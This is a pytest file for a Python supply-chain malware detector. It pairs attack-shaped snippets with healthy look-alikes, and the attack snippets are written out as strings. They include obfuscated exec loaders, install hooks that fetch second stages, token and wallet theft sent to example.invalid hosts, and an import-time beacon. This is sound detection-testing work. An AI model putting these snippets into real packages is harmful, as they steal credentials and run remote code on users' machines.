"""Issue 15's attack classes, one shape at a time: each attack shape must reach `high` or
`critical` through the detector written for it, and the healthy shape next to it, which
healthy packages write, must stay below `high`. Nothing here is run: the sources are only
parsed (URLs under example.invalid)."""

from __future__ import annotations

import textwrap

import pytest

from chaingate.analysis.python.detect import analyse_file
from chaingate.core.findings import Severity


def worst(path: str, source: str) -> tuple[Severity | None, set[str]]:
    found = analyse_file(path, textwrap.dedent(source).encode())
    top = max((f.severity for f in found), default=None)
    return top, {f.id for f in found if top is not None and f.severity == top}


ATTACKS = {
    "eval-named-eval": (
        "pkg/__init__.py",
        """
        import base64
        _e = eval("\\145\\166\\141\\154")
        _e(base64.b64decode("cHJpbnQoMSk="))
        """,
        "obfuscated-exec",
    ),
    "tuple-renamed-builtins": (
        "pkg/__init__.py",
        """
        (_a, _b, _i) = (exec, compile, __import__)
        _z = _i("\\x7a\\x6c\\x69\\x62")
        _a(_b(_z.decompress(b"x"), "<s>", "exec"))
        """,
        "obfuscated-exec",
    ),
    "vars-builtins": (
        "pkg/__init__.py",
        'import base64\nvars(__builtins__)["exec"](base64.b64decode("eA=="))\n',
        "obfuscated-exec",
    ),
    "dict-get-eval": (
        "pkg/__init__.py",
        'import zlib\n__builtins__.__dict__.get("eval")(zlib.decompress(b"x"))\n',
        "obfuscated-exec",
    ),
    "globals-builtins-call": (
        "pkg/__init__.py",
        'import zlib\nglobals()["__builtins__"].exec.__call__(zlib.decompress(b"x"))\n',
        "obfuscated-exec",
    ),
    "getattribute-exec": (
        "pkg/__init__.py",
        'import zlib\nimport builtins\nbuiltins.__getattribute__("exec")(zlib.decompress(b"x"))\n',
        "obfuscated-exec",
    ),
    "xor-eval-compile": (
        "setup.py",
        "_d = [1, 2, 3]\neval(compile(bytes([b ^ 90 for b in _d]).decode(), '<s>', 'exec'))\n",
        "obfuscated-exec",
    ),
    "map-getattr-builtins-chr": (
        "setup.py",
        "exec(''.join(map(getattr(__builtins__, oct.__str__()[-3] + 'hr'), [112, 40, 41])))\n",
        "obfuscated-exec",
    ),
    "lnk-load-extension": (
        "setup.py",
        """
        import os, win32com.client
        shell = win32com.client.Dispatch("WScript.Shell")
        for name in os.listdir(os.path.expanduser("~/Desktop")):
            if name.endswith(".lnk"):
                link = shell.CreateShortCut(name)
                link.Arguments = "--load-extension=C:/ext"
                link.Save()
        """,
        "browser-hijack",
    ),
    "lnk-load-extension-put-together": (  # the walk-around: the flag split in two
        "setup.py",
        """
        import glob
        for path in glob.glob("C:/Users/*/Desktop/*.lnk"):
            args = "--load-" + "extension=" + "C:/ext"
        """,
        "browser-hijack",
    ),
    "pip-main-in-cmdclass": (
        "setup.py",
        """
        from setuptools import setup
        from setuptools.command.install import install
        from pip import main as pipmain
        class I(install):
            def run(self):
                pipmain(["install", "stage-two"])
        setup(cmdclass={"install": I})
        """,
        "install-hook",
    ),
    "pip-install-module-level": (
        "setup.py",
        "import subprocess, sys\n"
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'stage2'])\n",
        "install-hook",
    ),
    "cmdclass-calls-helper": (
        "setup.py",
        """
        import urllib.request
        from setuptools.command.install import install
        def _get():
            urllib.request.urlretrieve("https://x.example.invalid/a.exe", "a.exe")
        def _post():
            _get()
        class I(install):
            def run(self):
                _post()
        """,
        "install-hook",
    ),
    "chained-start-bat": (
        "setup.py",
        'import os\nos.system("set __COMPACT_LAYER=RunAsInvoker | start install.bat")\n',
        "install-hook",
    ),
    "temp-script-written-and-started": (
        "setup.py",
        """
        import os, tempfile
        t = tempfile.NamedTemporaryFile(delete=False, suffix=".py")
        t.write(b"import urllib.request as u;exec(u.urlopen('https://x.example.invalid').read())")
        t.close()
        os.system(f"start pythonw {t.name}")
        """,
        "write-then-run",
    ),
    "exec-of-a-literal-that-downloads": (
        "pkg/__init__.py",
        "exec(\"import urllib.request as u\\nu.urlopen('https://c.example.invalid').read()\")\n",
        "write-then-run",
    ),
    "exec-open-data-file": (
        "pkg/__init__.py",
        "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'a.dat')).read())\n",
        "data-exec",
    ),
    "runpy-run-path-data-file": (
        "pkg/__init__.py",
        "import runpy\nrunpy.run_path('pkg/cfg.bin')\n",
        "data-exec",
    ),
    "token-to-a-fixed-host-in-the-url": (
        "pkg/telemetry.py",
        """
        import os
        from urllib.request import urlopen
        def report():
            token = os.environ.get("GITHUB_TOKEN", "")
            urlopen(f"https://collect.example.invalid/t?token={token}")
        """,
        "exfiltration",
    ),
    "pyarmor-protected-module": (
        "pkg/core.py",
        "from .pyarmor_runtime_000000 import __pyarmor__\n"
        "__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')\n",
        "protected-code",
    ),
    "wallets-read-by-one-helper-sent-by-another": (
        "pkg/client.py",
        """
        import glob, os, urllib.request
        TARGETS = [".bash_history", ".config/solana/id.json", ".electrum/wallets/default"]
        def _collect():
            out = b""
            for rel in TARGETS:
                for path in glob.glob(os.path.join(os.path.expanduser("~"), rel)):
                    with open(path, "rb") as f:
                        out += f.read()
            return out
        def _send(data):
            urllib.request.urlopen(urllib.request.Request("https://x.example.invalid", data=data))
        def connect():
            _send(_collect())
        """,
        "exfiltration",
    ),
}

HEALTHY = {
    "getattr-builtins-by-type-name": (
        "pkg/types.py",
        "import builtins\n\ndef resolve(name):\n    return getattr(builtins, name)\n",
    ),
    "vars-of-an-object": (
        "pkg/model.py",
        "def dump(obj):\n    return {k: v for k, v in vars(obj).items()}\nvars(object())['x']\n",
    ),
    "globals-lookup-of-a-function": (
        "pkg/cli.py",
        "def main(cmd):\n    return globals()['cmd_' + cmd]()\n",
    ),
    "dict-get-a-key": (
        "pkg/conf.py",
        "CONF = {}\nhandler = CONF.__dict__.get('eval') if hasattr(CONF, '__dict__') else None\n",
    ),
    "tuple-of-plain-functions": (
        "pkg/util.py",
        "(_len, _str) = (len, str)\nprint(_len('abc'), _str(1))\n",
    ),
    "xor-checksum-not-run": (
        "pkg/crc.py",
        "def mask(data, key):\n    return bytes([b ^ key for b in data])\n",
    ),
    "websocket-mask-decoded-not-run": (
        "pkg/ws.py",
        "def unmask(data, mask):\n"
        "    return bytes(b ^ mask[i % 4] for i, b in enumerate(data)).decode()\n",
    ),
    "selenium-load-extension": (
        "pkg/browser.py",
        "from selenium import webdriver\n"
        "o = webdriver.ChromeOptions()\no.add_argument('--load-extension=./ext')\n",
    ),
    "setup-exec-version-file": (
        "setup.py",
        "exec(open('pkg/version.py').read())\nfrom setuptools import setup\nsetup()\n",
    ),
    "run-path-of-a-py-file": (
        "pkg/cli.py",
        "import runpy\ndef main(p):\n    runpy.run_path('pkg/_main.py')\n",
    ),
    "exec-of-a-harmless-literal": ("pkg/compat.py", 'exec("def f(*, a): return a")\n'),
    "setup-writes-c-and-runs-the-compiler": (
        "setup.py",
        """
        import subprocess
        with open("probe.c", "w") as f:
            f.write("int main(void){return 0;}")
        subprocess.call(["cc", "probe.c"])
        """,
    ),
    "pyarmor-named-in-a-docstring": (
        "pkg/tools.py",
        '"""Unlike pyarmor, this keeps code readable."""\ndef pyarmor_runtime_note():\n    pass\n',
    ),
    "history-read-and-upload-of-other-data": (
        "pkg/repl.py",
        """
        import os, requests
        HIST = os.path.expanduser("~/.python_history")
        def _load():
            with open(HIST) as f:
                return f.read().splitlines()
        def _post(payload):
            requests.post("https://api.example.invalid/v1", json=payload)
        def report(stats):
            lines = _load()
            _post({"count": stats})
        """,
    ),
    "http-wrapper-given-a-url": (
        "pkg/net.py",
        """
        import os, urllib.request
        def fetch(url):
            return urllib.request.urlopen(url).read()
        def version():
            return fetch("https://pypi.example.invalid/json")
        """,
    ),
    "mlflow-jupyter-token-to-the-local-server": (
        # mlflow-skinny 3.18.0, mlflow/tracking/context/jupyter_notebook_context.py: the token
        # goes to the Jupyter server whose URL the user's own runtime directory names
        "mlflow/tracking/context/jupyter_notebook_context.py",
        """
        import json, os
        from urllib.request import urlopen
        def _get_sessions_notebook(server, kernel_id):
            url = server.get("url", "").rstrip("/")
            token = server.get("token") or os.environ.get("JUPYTERHUB_API_TOKEN", "")
            sessions_url = f"{url}/api/sessions"
            if token:
                sessions_url += f"?token={token}"
            with urlopen(sessions_url, timeout=0.5) as response:
                sessions = json.load(response)
            return sessions
        """,
    ),
    "cmdclass-helper-runs-protoc": (
        # snowflake-snowpark-python, pydeck, daff: a build step run from a helper
        "setup.py",
        """
        import subprocess
        from setuptools.command.build_py import build_py
        def _protoc():
            if subprocess.call(["protoc", "--python_out=.", "a.proto"]) != 0:
                raise SystemExit(1)
        class B(build_py):
            def run(self):
                _protoc()
                build_py.run(self)
        """,
    ),
    "hostname-dot-local-lookup": (
        # jupyter-client localinterfaces.py: this machine's mDNS name
        "jupyter_client/localinterfaces.py",
        "import socket\nPUBLIC_IPS = socket.gethostbyname_ex(socket.gethostname() + '.local')[2]\n",
    ),
    "cmdclass-runs-make": (
        # daff 1.4.2's setup.py: `make setup_py` from a build_py override
        "setup.py",
        """
        import os
        from subprocess import call
        from distutils.command.build_py import build_py
        class my_build_py(build_py):
            def run(self):
                if os.path.isfile("Makefile"):
                    if call(["make", "setup_py"]) != 0:
                        exit(1)
                build_py.run(self)
        """,
    ),
    "cmdclass-helper-copies-files": (
        "setup.py",
        """
        import shutil
        from setuptools.command.build_py import build_py
        def _copy():
            shutil.copy("a.txt", "build/a.txt")
        class B(build_py):
            def run(self):
                _copy()
        """,
    ),
}


@pytest.mark.parametrize("key", sorted(ATTACKS))
def test_attack_shape_is_high(key: str) -> None:
    path, source, finding = ATTACKS[key]
    top, ids = worst(path, source)
    assert top is not None and top >= Severity.HIGH, (key, top)
    assert finding in ids, ids


@pytest.mark.parametrize("key", sorted(HEALTHY))
def test_healthy_shape_is_not_high(key: str) -> None:
    path, source = HEALTHY[key]
    top, ids = worst(path, source)
    assert top is None or top < Severity.HIGH, (key, top, ids)


def test_pth_line_naming_an_archive_is_high() -> None:
    found = analyse_file("evil.pth", b"evil/_boot.zip\n")
    assert [(f.id, f.severity) for f in found] == [("pth-exec", Severity.HIGH)]
    assert analyse_file("pkg.pth", b"src\n./lib\n") == []  # plain directories: no finding


def test_decoder_and_exec_on_separate_lines_of_unparsable_file() -> None:
    source = b"import base64\ntype X = int\n_p = base64.b64decode('eA==')\nexec(_p)\n"
    found = analyse_file("pkg/__init__.py", source)
    assert any(f.id == "obfuscated-exec" and f.severity >= Severity.HIGH for f in found)
    healthy = b"type X = int\n_p = base64.b64decode('eA==')\nexec(other)\n"
    assert not any(f.severity >= Severity.HIGH for f in analyse_file("pkg/a.py", healthy))


def test_a_script_written_and_run_inside_a_function_is_medium() -> None:
    # meson (vendored by numpy) writes a .bat from a literal and runs it with cmd /C to
    # shorten Wine paths: not at import, not at install
    source = """
    import subprocess
    from tempfile import NamedTemporaryFile
    def shorten(paths):
        with NamedTemporaryFile('w', suffix='.bat', delete=False) as bat_file:
            bat_file.write('@ECHO OFF')
        return subprocess.check_output(['cmd', '/C', bat_file.name] + paths)
    """
    top, ids = worst("mesonbuild/utils/universal.py", source)
    assert (top, ids) == (Severity.MEDIUM, {"write-then-run"})


def test_an_import_time_beacon_is_high_on_its_own() -> None:
    source = """
    import getpass, socket, urllib.request
    HOST = "203.0.113.7"
    info = "u=%s&h=%s" % (getpass.getuser(), socket.gethostname())
    urllib.request.urlopen("http://%s/c?%s" % (HOST, info))
    """
    top, ids = worst("pkg/__init__.py", source)
    assert (top, ids) == (Severity.HIGH, {"exfiltration"})
    # the same call inside a function the user calls, or without who the user is: not high
    called = "import getpass, urllib.request\ndef ping():\n" + (
        "    urllib.request.urlopen('http://%s/c?u=%s' % (HOST, getpass.getuser()))\n"
    )
    assert worst("pkg/__init__.py", called)[0] is None
    plain = (
        'import urllib.request\nHOST = "203.0.113.7"\nurllib.request.urlopen("http://%s/" % HOST)\n'
    )
    top, _ = worst("pkg/__init__.py", plain)
    assert top is not None and top < Severity.HIGH


def test_a_lone_strong_medium_is_not_demoted() -> None:
    from chaingate.analysis.inspect import verdict
    from chaingate.analysis.interface import CodeFinding

    weak = CodeFinding("shady-url", Severity.MEDIUM, "pkg/a.py", 3, "m")
    strong = CodeFinding("data-exec", Severity.MEDIUM, "pkg/a.py", 3, "m")
    assert verdict((weak,)) == Severity.LOW
    assert verdict((strong,)) == Severity.MEDIUM
